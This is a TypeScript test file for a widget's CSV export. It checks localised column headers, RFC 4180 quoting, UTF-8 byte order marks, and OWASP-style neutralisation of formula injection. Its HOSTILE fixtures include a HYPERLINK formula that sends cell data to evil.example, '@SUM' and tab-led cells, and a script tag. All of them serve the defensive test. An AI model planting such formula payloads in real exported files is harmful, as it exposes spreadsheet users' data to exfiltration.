/**
 * The data's CSV file (src/widget/csv.ts): the rows equal the data, the columns are named in
 * the widget's language with their units, and text stays text: a formula is neutralised as
 * OWASP says (a leading `'`, quoted), quotes, commas and line breaks are quoted as RFC 4180
 * says, markup is written as it came; a number stays a number.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import type { Lang } from '../../src/core/types.js';
import { summary as ranking } from '../../src/components/ranking/summary.js';
import { rankingStrings } from '../../src/components/ranking/strings.js';
import { summary as regionStats } from '../../src/components/region-stats/summary.js';
import { regionStatsStrings } from '../../src/components/region-stats/strings.js';
import { summary as report } from '../../src/components/report/summary.js';
import { reportStrings } from '../../src/components/report/strings.js';
import { reportsStrings } from '../../src/components/reports/strings.js';
import { summary as factChecks } from '../../src/components/fact-checks/summary.js';
import { factChecksStrings, verdictValues } from '../../src/components/fact-checks/strings.js';
import { indicatorNames } from '../../src/i18n/indicator-names.js';
import { reportValues } from '../../src/i18n/report-values.js';
import { wordsIn } from '../../src/element/data-file.js';
import { parseCsv } from '../helpers/csv.js';
import { csvField, csvFile, csvText, tableOf, type Table } from '../../src/widget/csv.js';

const parse = parseCsv;

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
  '+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\tindent',
  '\rcarriage',
  'Ministère "de la Santé", Dakar',
  'ligne 1\nligne 2',
  '<script>alert(1)</script>',
  'Agence d’État',
];

const rankingItems = HOSTILE.map((name, index) => ({
  slug: `a${index}`,
  name,
  score: 97 - index,
  responseRate: 88.5 - index,
  avgDelayDays: -index / 2 || 3.25,
  rank: index + 1,
}));

const reading = (
  lang: Lang,
  tables: Parameters<typeof wordsIn>[0],
  inputs: Record<string, unknown> = {},
) => ({
  lang,
  read: (attribute: string) => inputs[attribute],
  words: wordsIn(tables, lang),
});

describe('csvField', () => {
  it('neutralises a formula with a leading quote and quotes it', () => {
    assert.equal(csvField('=1+1'), `"'=1+1"`);
    assert.equal(csvField('+1'), `"'+1"`);
    assert.equal(csvField('-2+3'), `"'-2+3"`);
    assert.equal(csvField('@SUM(A1)'), `"'@SUM(A1)"`);
    assert.equal(csvField('\tx'), `"'\tx"`);
    assert.equal(csvField('\rx'), `"'\rx"`);
    assert.equal(csvField('=HYPERLINK("a")'), `"'=HYPERLINK(""a"")"`);
  });
  it('keeps a number a number, negative ones too', () => {
    assert.equal(csvField(-2), '-2');
    assert.equal(csvField(88.5), '88.5');
    assert.equal(csvField(Number.NaN), '');
  });
  it('quotes commas, quotes and line breaks, and leaves other text as it is', () => {
    assert.equal(csvField('a,b'), '"a,b"');
    assert.equal(csvField('say "hi"'), '"say ""hi"""');
    assert.equal(csvField('a\nb'), '"a\nb"');
    assert.equal(csvField('<script>alert(1)</script>'), '<script>alert(1)</script>');
    assert.equal(csvField('Région'), 'Région');
  });
});

describe('csvField, whatever the text (a property)', () => {
  // Text that leans on what a CSV writer can get wrong: formula starts, separators, quotes, line breaks.
  const hostile = fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ',', '"', "'", ';', 'a', 'é', ' ', '1', '('),
    maxLength: 12,
  });

  it('a spreadsheet reads back one cell, never a formula, and the text as given behind one quote', () => {
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 1, maxLength: 4 }), (cells) => {
        const records = parseCsv(`${cells.map(csvField).join(',')}\r\n`);
        assert.equal(records.length, 1);
        const read = records[0]!;
        assert.equal(read.length, cells.length);
        read.forEach((cell, index) => {
          const given = cells[index]!;
          assert.doesNotMatch(cell, /^[=+\-@\t\r]/, JSON.stringify(given));
          assert.equal(/^[=+\-@\t\r]/.test(given) ? cell.slice(1) : cell, given);
        });
      }),
      { numRuns: 2000, seed: 52 },
    );
  });
});

describe('the ranking as a CSV file', () => {
  for (const [lang, header] of [
    ['fr', ['Administration', 'Score (sur 100)', 'Taux de réponse (%)', 'Délai moyen (jours)']],
    ['en', ['Administration', 'Score (out of 100)', 'Response rate (%)', 'Average delay (days)']],
  ] as const)
    it(`names its columns in the widget's language (${lang}), with their units`, () => {
      const table = tableOf(ranking, { data: rankingItems }, reading(lang, [rankingStrings]))!;
      assert.deepEqual(table.header, header);
    });

  it('has one row per item, equal to the data, hostile text read back as it came (a formula behind its quote)', () => {
    const table = tableOf(ranking, { data: rankingItems }, reading('fr', [rankingStrings]))!;
    const [header, ...rows] = parse(csvText(table));
    assert.equal(header!.length, 4);
    assert.equal(rows.length, rankingItems.length);
    rows.forEach((row, index) => {
      const item = rankingItems[index]!;
      const neutral = /^[=+\-@\t\r]/.test(item.name) ? `'${item.name}` : item.name;
      assert.deepEqual(row, [
        neutral,
        String(item.score),
        String(item.responseRate),
        String(item.avgDelayDays),
      ]);
    });
    // A negative number is written as a number, not neutralised as text.
    assert.ok(rows.some((row) => row[3] === '-1'));
  });

  it('is a file of UTF-8 text with its byte order mark, which decodes to the same text', async () => {
    const table: Table = { header: ['Région'], rows: [['Kédougou']] };
    const file = csvFile(table);
    assert.equal(file.type, 'text/csv;charset=utf-8');
    const bytes = new Uint8Array(await file.arrayBuffer());
    assert.deepEqual([...bytes.slice(0, 3)], [0xef, 0xbb, 0xbf]);
    assert.equal(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes), '\uFEFFRégion\r\nKédougou\r\n');
  });
});

describe('the other summaries as CSV files', () => {
  const regions = {
    data: [
      { code: 'dakar', name: 'Dakar', indicators: { responseRate: 71.5, averageScore: 64 } },
      { code: 'kolda', name: 'Kolda', indicators: { responseRate: 48, averageScore: 55 } },
    ],
  };
  it('a regional chart: the indicator charted, named, in percent; the region chosen only when one is', () => {
    const words = [regionStatsStrings, indicatorNames];
    const all = tableOf(
      regionStats,
      regions,
      reading('en', words, { indicator: 'responseRate', region: '' }),
    )!;
    assert.deepEqual(all.header, ['Region', 'Response rate (%)']);
    assert.deepEqual(all.rows, [
      ['Dakar', 71.5],
      ['Kolda', 48],
    ]);
    const one = tableOf(
      regionStats,
      regions,
      reading('fr', words, { indicator: 'averageScore', region: 'kolda' }),
    )!;
    assert.deepEqual(one.header, ['Région', 'Score moyen (sur 100)']);
    assert.deepEqual(one.rows, [['Kolda', 55]]);
  });

  it('a report: one row, its values named in words, its date as the API gives it', () => {
    const data = {
      title: '@ping',
      category: 'delay',
      status: 'resolved',
      administration: { name: 'Mairie' },
      submittedAt: '2026-11-03T10:00:00Z',
      description: 'Texte, "cité"',
    };
    const table = tableOf(report, data, reading('fr', [reportStrings, reportsStrings, reportValues]))!;
    assert.deepEqual(table.header, [
      'Titre',
      'Catégorie',
      'Statut',
      'Administration',
      'Date du signalement',
      'Description',
      'Réponse officielle',
    ]);
    assert.equal(table.rows.length, 1);
    const row = table.rows[0]!;
    assert.equal(row[0], '@ping');
    assert.equal(row[2], reportValues.fr.statuses.resolved);
    assert.equal(row[4], '2026-11-03T10:00:00Z');
    assert.equal(row[6], '');
    assert.equal(parse(csvText(table))[1]![0], "'@ping");
  });

  it('fact-checks: the verdict named, the sources as title and address, a line each', () => {
    const data = {
      data: [
        {
          claim: 'x',
          verdict: 'false',
          sources: [
            { title: 'A', url: 'https://a.example/' },
            { title: 'B', url: 'https://b.example/' },
          ],
        },
      ],
    };
    const table = tableOf(factChecks, data, reading('en', [factChecksStrings, verdictValues]))!;
    assert.deepEqual(table.header, ['Claim checked', 'Verdict', 'Sources']);
    assert.deepEqual(table.rows, [
      ['x', verdictValues.en.verdicts.false, 'A <https://a.example/>\nB <https://b.example/>'],
    ]);
  });
});
